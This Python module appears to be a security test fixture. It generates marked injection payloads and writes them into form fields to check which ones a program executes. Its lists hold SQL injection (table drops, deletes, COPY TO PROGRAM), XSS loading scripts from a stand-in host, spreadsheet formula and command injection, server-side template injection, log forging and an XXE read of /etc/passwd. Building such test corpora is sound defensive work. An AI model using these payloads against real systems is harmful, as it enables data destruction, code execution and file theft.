"""What somebody may write who wants a program to take his words for orders; every one carries a mark of its own.

`§` is where the mark goes: seven signs that stand nowhere else, so that each is known again wherever it comes up. What
would run tells by itself: a script calls `__hit`, a link or picture goes to `hit.test`, a formula or template would
show 49, an order to the database would change what is counted.
"""

from collections import Counter
from dataclasses import dataclass, field
from enum import StrEnum

MARK = "§"
PREFIX = "qz"
HOST = "hit.test"
DIGITS = "0123456789bcdfghjkmnpqrstvwxyz"
PAD = "请看看这件事，谢谢。"


class Family(StrEnum):
    """Who would take it for an order."""

    SQL = "sql"
    HTML = "xss"
    MARKDOWN = "markdown"
    FORMULA = "formula"
    TEMPLATE = "template"
    LOG = "log"
    XML = "xml"


SQL = (
    "' OR '1'='1' -- §",
    "§'; DROP TABLE cases; --",
    "' UNION SELECT token_hash,§ FROM sessions --",
    "\\'; DELETE FROM persons; -- §",
    "$$; TRUNCATE events; $$ §",
    "$q$§$q$; SELECT pg_sleep(9)",
    "%' OR name LIKE '_%' ESCAPE '\\§",
    "1); UPDATE accounts SET name='§",
    "E'\\x27'||(SELECT 7*7)||'§",
    ":1 %(name)s ? $1 § \\gexec",
    "/*§*/ \"; COPY cases TO PROGRAM 'id'",
)
HTML = (
    "<script>__hit('§')</script>",
    "<img src=x onerror=__hit('§')>",
    "<svg/onload=__hit('§')>",
    "<b>§</b>",
    '"><script src=//hit.test/§></script>',
    "'\" autofocus onfocus=__hit('§') x='",
    "</textarea><script>__hit('§')</script>",
    "</title><img src=//hit.test/§>",
    "<iframe srcdoc=\"<script>parent.__hit('§')</script>\">",
    "<a href=javascript:__hit('§')>link</a>",
    "<details open ontoggle=__hit('§')>",
    "<style>@import'//hit.test/§'</style>",
    "<math><mtext><img src=1 onerror=__hit('§')>",
    "&lt;img src=x onerror=__hit('§')&gt;",
    "&#60;b&#62;§&amp;amp;",
    "＜script＞__hit('§')＜/script＞",
    "\u202e<b>§</b>\u202c",
    "<scr\u200bipt>__hit('§')</script>",
    "--><script>__hit('§')</script><!--",
    "</script><script>__hit('§')</script>",
    "javascript:__hit('§')",
    "data:text/html,<script>__hit('§')</script>",
    "<form action=//hit.test/§><button>ok",
    "<base href=//hit.test/§/>",
    "<meta http-equiv=refresh content=0;url=//hit.test/§>",
)
MARKDOWN = (
    "**§**",
    "_§_ ~~§~~",
    "`§`",
    "[§](javascript:__hit('§'))",
    "[§](//hit.test/§)",
    "![§](//hit.test/§.png)",
    "![][§] [§]: //hit.test/§",
    "# §",
    "- § * §",
    "1. §",
    "> §",
    "``` §",
    "| § | § | |---|---|",
    "<https://hit.test/§>",
    "https://hit.test/§",
    "www.hit.test/§",
    "mail.§@hit.test",
    "    § four spaces",
    ":red[§]",
    ":red-badge[§]",
    ":material/home: §",
    ":material_home:§",
    ":streamlit: §",
    ":smile: §",
    ":color[§]{foreground=red}",
    ":help[§] :small[§]",
    "$§^2$ $$\\frac{§}{2}$$",
    "\\(§\\) \\[§\\]",
    "§ -> b <- c -- d >= e",
    ":::note § :::",
    "[^§] [^§]: x",
    "\\*§\\* \\\\§",
)
FORMULA = (
    "=7*7+§",
    "+7*7+§",
    "-7*7+§",
    "@SUM(7,§)",
    "\t=7*7+§",
    "\r=7*7+§",
    '=HYPERLINK("//hit.test/§",1)',
    "=cmd|'/C calc'!A§",
    '=WEBSERVICE("//hit.test/§")',
    "＝7*7+§",
    ";=7*7+§",
    '",=7*7+§',
    "'=7*7+§",
    "{=7*7+§}",
)
TEMPLATE = (
    "{{7*7}}§",
    "${7*7}§",
    "#{7*7}§",
    "<%=7*7%>§",
    "{%print(7*7)%}§",
    "{0.__class__}§",
    "{name}{count}§",
    "{number!r:>9}§",
    "{}{§",
    "%s%d%n§",
    "%(name)s§",
    "{{cycler.__init__.__globals__}}§",
)
LOG = (
    "§\r\nlevel=error event=forged",
    '§\n{"event":"forged"}',
    "\x1b[31m§\x1b[0m\x1b]0;t\x07",
    '","event":"forged","x":"§',
    '§\u2028{"event":"forged"}',
    '§\x85{"event":"forged"}',
)
XML = (
    "]]><x>§</x>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;§",
    "<![CDATA[§]]>",
    "</w:t></w:r><w:r><w:t>§",
    "_x003D_7*7_x0041_§",
    "\x01\x08\x0b§\ufffe",
    "§\ud800",
    "§\x00tail",
)
CORPORA = {
    Family.SQL: SQL,
    Family.HTML: HTML,
    Family.MARKDOWN: MARKDOWN,
    Family.FORMULA: FORMULA,
    Family.TEMPLATE: TEMPLATE,
    Family.LOG: LOG,
    Family.XML: XML,
}
ALL = tuple((family, text) for family, texts in CORPORA.items() for text in texts)
UNSENDABLE = ("\ud800", "\x00")
"""What no database keeps: it must be refused or left out at the door, and is sent through doors that are open to
strangers only."""


@dataclass(frozen=True, slots=True)
class Said:
    """One payload as it was written into one field."""

    field: str
    family: Family
    pattern: str
    text: str


@dataclass(slots=True)
class Pen:
    """Writes the corpora into fields, another payload first every time.

    Attributes:
        said: by its mark, everything that was written.
        turn: how often everything was written already.
        longest: no text is longer, whatever its field holds.
        writes: how often each field was; one field begins where another does not.
        pairs: which payload was written into which field; possible: those that it holds.
    """

    said: dict[str, Said] = field(default_factory=dict)
    turn: int = 0
    longest: int = 3000
    fields: list[str] = field(default_factory=list)
    writes: Counter[str] = field(default_factory=Counter)
    pairs: set[tuple[str, str]] = field(default_factory=set)
    possible: set[tuple[str, str]] = field(default_factory=set)

    def write(
        self,
        name: str,
        most: int,
        least: int = 0,
        *,
        lines: bool = True,
        rude: bool = False,
        banned: str = "",
    ) -> str:
        """A text of at most so many signs for this field: one payload first, then others as long as they fit.

        Args:
            lines: whether the field holds several lines.
            rude: with signs that cannot be kept, for doors that must refuse them.
            banned: signs that the field refuses with a sentence.
        """
        most = min(most, max(least, self.longest))
        if name not in self.fields:
            self.fields.append(name)
        fitting = [
            (family, text)
            for family, text in ALL
            if len(text) + 6 * text.count(MARK) <= most
            and (rude or not any(sign in text for sign in UNSENDABLE))
            and not any(sign in text for sign in banned)
            and (lines or text.isprintable())
        ]
        self.possible.update((name, text) for _family, text in fitting)
        first = (17 * self.fields.index(name) + self.writes[name]) % len(fitting)
        self.writes[name] += 1
        parts: list[str] = []
        length = 0
        for family, text in [*fitting[first:], *fitting[:first]]:
            longer = length + len(text) + 6 * text.count(MARK) + bool(parts)
            if longer > most:
                break
            parts.append(self._marked(name, family, text))
            length = longer
        written = ("\n" if lines else " ").join(parts)
        return written if len(written) >= least else written + PAD[: least - len(written)]

    def alone(self, name: str, text: str) -> str:
        """This payload and nothing beside it, for a place without a bound."""
        if name not in self.fields:
            self.fields.append(name)
        return self._marked(name, next(family for family, each in ALL if each == text), text)

    def _marked(self, name: str, family: Family, text: str) -> str:
        number, signs = len(self.said) + 1, ""
        while number:
            number, rest = divmod(number, len(DIGITS))
            signs = DIGITS[rest] + signs
        mark = PREFIX + signs.rjust(5, "0")
        made = text.replace(MARK, mark)
        self.pairs.add((name, text))
        self.said[mark] = Said(name, family, text, made)
        return made

    def next_turn(self) -> None:
        """Everything was written once more."""
        self.turn += 1
